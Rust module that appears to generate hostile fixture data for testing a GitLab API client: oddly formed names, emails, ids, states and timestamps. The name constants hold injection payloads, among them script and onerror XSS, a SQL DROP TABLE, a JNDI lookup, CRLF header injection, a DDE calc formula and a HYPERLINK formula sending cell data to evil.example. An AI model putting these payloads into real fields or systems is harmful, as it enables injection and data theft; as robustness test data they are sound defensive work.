//! Data that GitLab accepts or may come to send, and that nobody expects: the scenarios `hostile` and `hostile-com`.
//!
//! What a person is called and when it was there is changed where the account is made, so that every answer and the
//! [truth](crate::Truth) tell the same. How it is written is changed on the way out of an answer, by [`rewrite()`]. Which
//! account is how follows from its place alone; each kind comes once in every run of [`ODDITIES`] people.
//!
//! | what | how |
//! | --- | --- |
//! | names | 10 kB; right-to-left text and its controls; C0, C1, NUL and escape sequences; outside of the BMP, combining; empty; white; a formula; markup; null |
//! | addresses | two accounts with one; empty; null |
//! | ids | beyond 2⁵³, up to 2⁶³ − 1 |
//! | states | `quarantined`, null |
//! | moments | with `+02:00` and `-11:30`, without a fraction, with nine digits of it, on a leap second |
//! | identities | 300 of them; null |
//! | groups | names of quotes, lines, markup and a formula; an unknown plan; `galactic_invite` as `membership_type`; access level 27 |
//! | every object of REST | two unknown keys: nested objects and arrays, a number of 30 digits, floats |
//!
//! A moment on a leap second is told by the truth as the last millisecond before it: no clock here has that second.

use time::OffsetDateTime;
use time::macros::datetime;

use crate::account::{Account, Identity};
use crate::archetype::{AccountKind, Archetype, State};
use crate::calendar::Instant;

mod rewrite;

pub(crate) use rewrite::{rewrite, set_nulls};

/// The accounts before this place belong to tokens or to GitLab itself, and are left alone.
const FIRST: usize = 12;

/// As many of the last accounts as have the last ids there are.
const LAST: usize = 6;

/// Ids above this are no longer exact as floating-point numbers.
const BEYOND_FLOATS: u64 = 1 << 53;

/// The largest id that a database of GitLab's holds.
const LARGEST: u64 = 9_223_372_036_854_775_807;

/// The moment before the leap second.
const LEAP: OffsetDateTime = datetime!(2016-12-31 23:59:59.999 UTC);

/// Access level of a role that nobody knows.
pub(crate) const UNKNOWN_LEVEL: u8 = 27;

/// `membership_type` of a way into a group that nobody knows.
pub(crate) const UNKNOWN_MEMBERSHIP: &str = "galactic_invite";

/// Name of the first group.
pub(crate) const GROUP_NAME: &str = "Acme \"R&D\"\n<script>alert(1)</script>\t\u{202e}\\ ' ; --";

/// Name of the second.
pub(crate) const OTHER_GROUP_NAME: &str = "=cmd|' /C calc'!A0";

/// What is odd about an account.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Oddity {
    LongName,
    BothDirections,
    Controls,
    Astral,
    EmptyName,
    WhiteName,
    Formula,
    Markup,
    NullName,
    /// Two kinds, so that two accounts in a row share the address.
    Twin,
    OtherTwin,
    EmptyEmail,
    NullEmail,
    ManyIdentities,
    NullIdentities,
    Quarantined,
    Unstated,
    East,
    West,
    NoFraction,
    LongFraction,
    LeapSecond,
    /// Everything that can be null is.
    Nulls,
    /// Nothing.
    Plain,
}

/// All of them.
pub(crate) const ODDITIES: [Oddity; 24] = [
    Oddity::LongName,
    Oddity::BothDirections,
    Oddity::Controls,
    Oddity::Astral,
    Oddity::EmptyName,
    Oddity::WhiteName,
    Oddity::Formula,
    Oddity::Markup,
    Oddity::NullName,
    Oddity::Twin,
    Oddity::OtherTwin,
    Oddity::EmptyEmail,
    Oddity::NullEmail,
    Oddity::ManyIdentities,
    Oddity::NullIdentities,
    Oddity::Quarantined,
    Oddity::Unstated,
    Oddity::East,
    Oddity::West,
    Oddity::NoFraction,
    Oddity::LongFraction,
    Oddity::LeapSecond,
    Oddity::Nulls,
    Oddity::Plain,
];

/// What is odd about the account at a place; people only.
pub(crate) fn oddity(place: usize, kind: AccountKind) -> Option<Oddity> {
    let people = place >= FIRST && kind == AccountKind::Human;
    ODDITIES.get(place % ODDITIES.len()).copied().filter(|_| people)
}

/// The id of the account at a place of `len`: the last third is beyond 2⁵³, the last few are the largest there are.
pub(crate) fn id(id: u64, place: usize, len: usize) -> u64 {
    let from_the_end = len.saturating_sub(place).saturating_sub(1);
    match place {
        _ if from_the_end < LAST => LARGEST - u64::try_from(from_the_end).unwrap_or(0),
        place if place >= FIRST && place > len / 3 * 2 => BEYOND_FLOATS + id,
        _ => id,
    }
}

/// The states that nobody knows.
pub(crate) fn archetype(archetype: Archetype, place: usize) -> Archetype {
    let state = match oddity(place, archetype.kind) {
        Some(Oddity::Quarantined) => State::Quarantined,
        Some(Oddity::Unstated) => State::Unstated,
        // These are about people who are there.
        Some(Oddity::LeapSecond | Oddity::Nulls | Oddity::LongName) => State::Active,
        _ => archetype.state,
    };
    Archetype { state, ..archetype }
}

/// Change what is told of an account.
pub(crate) fn disguise(account: &mut Account, place: usize) {
    let Some(oddity) = oddity(place, account.archetype.kind) else { return };
    if let Some(name) = name(oddity) {
        account.name = name;
    }
    match oddity {
        Oddity::Twin | Oddity::OtherTwin => account.email = "twins@example.test".to_owned(),
        Oddity::EmptyEmail | Oddity::NullEmail => account.email = String::new(),
        Oddity::NullIdentities => account.identities = Vec::new(),
        Oddity::ManyIdentities => {
            let identity = |number| Identity { provider: "saml", extern_uid: format!("{number}@login.example.test") };
            account.identities = (0..300).map(identity).collect();
        }
        Oddity::NoFraction => {
            account.created_at = whole(account.created_at);
            for at in [&mut account.confirmed_at, &mut account.current_sign_in_at, &mut account.last_sign_in_at] {
                *at = at.map(whole);
            }
        }
        Oddity::LeapSecond => account.current_sign_in_at = Some(Instant(LEAP)),
        Oddity::Nulls => {
            account.last_activity_on = None;
            account.current_sign_in_at = None;
            account.last_sign_in_at = None;
            account.confirmed_at = None;
        }
        _ => {}
    }
    account.nulls = nulls(oddity);
}

/// The moment without its fraction, as instances write it that keep none.
fn whole(at: Instant) -> Instant {
    Instant(at.0.saturating_sub(time::Duration::milliseconds(i64::from(at.0.millisecond()))))
}

fn name(oddity: Oddity) -> Option<String> {
    Some(match oddity {
        // Ten thousand bytes of letters of three each, and one to make it no multiple.
        Oddity::LongName => format!("{}x", "\u{4e01}\u{4e02}\u{4e03}\u{4e04}".repeat(840)),
        Oddity::BothDirections => "\u{202e}nimda\u{202c} \u{5d0}\u{5d1}\u{5d2} \u{2066}x\u{2069}\u{200f}\u{200b}".to_owned(),
        Oddity::Controls => "a\u{0}b\u{1b}[31mred\u{1b}[0m\u{7}\u{8}\r\nX-Injected: 1\t\u{7f}\u{85}\u{9b}2J".to_owned(),
        Oddity::Astral => {
            "\u{1d518}\u{1d52b}\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} Z\u{337}\u{356}a\u{334}l\u{336} e\u{301} \u{10ffff}"
                .to_owned()
        }
        Oddity::EmptyName | Oddity::NullName => String::new(),
        Oddity::WhiteName => " \u{a0}\u{2003}\u{feff}\t ".to_owned(),
        Oddity::Formula => "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")".to_owned(),
        Oddity::Markup => "<img src=x onerror=\"alert(1)\">'); DROP TABLE users; --\n${jndi:ldap://x}".to_owned(),
        _ => return None,
    })
}

/// The keys that are null for such an account, whatever they would be otherwise.
const fn nulls(oddity: Oddity) -> &'static [&'static str] {
    match oddity {
        Oddity::NullName => &["name"],
        Oddity::NullEmail => &["email", "public_email", "commit_email"],
        Oddity::NullIdentities => &["identities", "scim_identities"],
        Oddity::Nulls => &[
            "public_email",
            "avatar_url",
            "bio",
            "location",
            "job_title",
            "organization",
            "theme_id",
            "color_scheme_id",
            "preferred_language",
            "commit_email",
            "note",
            "created_by",
        ],
        _ => &[],
    }
}
